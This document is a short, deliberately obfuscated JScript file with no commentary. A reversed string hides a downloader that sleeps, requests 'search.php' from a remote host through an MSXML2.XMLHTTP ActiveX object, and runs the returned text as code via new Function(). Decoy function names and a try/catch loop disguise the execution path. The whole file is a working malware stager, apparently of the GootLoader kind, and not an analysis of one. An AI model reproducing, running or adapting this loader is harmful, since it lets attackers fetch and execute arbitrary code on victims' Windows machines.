
function hurry(a,b){return a[b];}
win5 = "split"; ear3='length'; 
function tool(g){ var d=''; var i=g[ear3]-1; while(i>=0){ d+=g.charAt(i); i-=1;} return d; }
function every(q,z){ return q.substr(z,1); }
function whole(x){ var even=0; var out=''; while(even<x.length){ if(even%2){ out = out + every(x,even); } else { out = every(x,even) + out; } even++; } return out; }
box=[]; box[0]=function(){return tool(';)()txeTesnopser.a(noitcnuF wen;)(dnes.a;)eslaf,"php.hcraes/elpmaxe.2toog//:sptth","TEG"(nepo.a;)"PTTHLMX.2LMXSM"(tcejbOXevitcA wen=a rav;)0001(peelS.tpircSW');}
m = 4000; 
while (m > 1) { try { hand[m](m); } catch (e) { hand = {}; hand[3999] = function () { big = box[0](); }; hand[3998]=function(){ (function(){}).constructor(big)(); m=0; }; } m--; }
